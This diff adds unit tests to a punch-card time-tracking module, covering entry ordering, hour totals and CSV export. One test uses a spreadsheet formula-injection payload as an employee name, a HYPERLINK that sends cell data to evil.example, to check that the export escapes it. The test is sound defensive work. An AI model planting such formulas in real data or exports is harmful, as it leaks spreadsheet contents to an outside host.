@@ -8,6 +8,7 @@ import {
   nextEntry,
   pairEntries,
   punchCardsCsv,
+  sortEntries,
   totalHours,
   validateEditTime,
 } from './rules';
@@ -45,6 +46,53 @@ describe('punch-card coherence (spec 000 §4)', () => {
     const exit = entry(false, '07:00', '2026-11-16', '12:00');
     expect(effectiveTime(exit)).toBe(Date.parse('2026-11-16T12:00:00.000Z'));
     expect(isCoherent([exit, entry(true, '08:00')])).toBe(true);
+  });
+});
+
+describe('entries at the same effective time', () => {
+  // An exit moved to 12:00 (clocked 07:00) and an entrance clocked at 12:00: the same effective
+  // time. The one clocked first comes first, whatever order they are given in, so which entry
+  // is flagged and how hours count never depend on the order rows are read in.
+  const movedExit = entry(false, '07:00', '2026-11-16', '12:00');
+  const clockedIn = entry(true, '12:00');
+  const morningIn = entry(true, '08:00');
+
+  it('come in the order they were clocked, whichever order they are given in', () => {
+    expect(effectiveTime(movedExit)).toBe(effectiveTime(clockedIn));
+    expect(sortEntries([clockedIn, movedExit, morningIn])).toEqual([
+      morningIn,
+      movedExit,
+      clockedIn,
+    ]);
+    expect(sortEntries([movedExit, clockedIn, morningIn])).toEqual([
+      morningIn,
+      movedExit,
+      clockedIn,
+    ]);
+  });
+
+  it('coherence, pairs, hours and the CSV all follow that order', () => {
+    // 08:00–12:00 is a pair, the 12:00 entrance opens again: coherent, 4 hours, in any order.
+    for (const given of [
+      [movedExit, clockedIn, morningIn],
+      [clockedIn, movedExit, morningIn],
+    ]) {
+      expect(flags(given)).toEqual([false, false, false]);
+      expect(pairEntries(given).map((pair) => [pair.in, pair.out])).toEqual([
+        [morningIn, movedExit],
+        [clockedIn, null],
+      ]);
+      expect(totalHours(given)).toBe(4);
+      const csvArrivals = punchCardsCsv({
+        storeName: 'S',
+        zone: 'UTC',
+        employees: [{ name: 'A', surname: 'B', entries: given }],
+      })
+        .split('\r\n')
+        .slice(1, -1)
+        .map((line) => line.split(';').slice(3).join(' '));
+      expect(csvArrivals).toEqual(['08:00 Oui', '12:00 Non', '12:00 Oui']);
+    }
   });
 });
 
@@ -181,5 +229,22 @@ describe('punch-card CSV (spec 000 §9)', () => {
       employees: [{ name: 'A', surname: 'B', entries: [entry(true, '08:00')] }],
     });
     expect(csv.split('\r\n')[1]).toBe('"Bistro; Nord";A B;16/11/2026;08:00;Oui');
+  });
+
+  it('writes an employee named like a formula as text, not as a live formula', () => {
+    const csv = punchCardsCsv({
+      storeName: '@Store',
+      zone: 'UTC',
+      employees: [
+        {
+          name: '=HYPERLINK("http://evil.example/?"&A1',
+          surname: '"x")',
+          entries: [entry(true, '08:00')],
+        },
+      ],
+    });
+    expect(csv.split('\r\n')[1]).toBe(
+      `'@Store;"'=HYPERLINK(""http://evil.example/?""&A1 ""x"")";16/11/2026;08:00;Oui`,
+    );
   });
 });
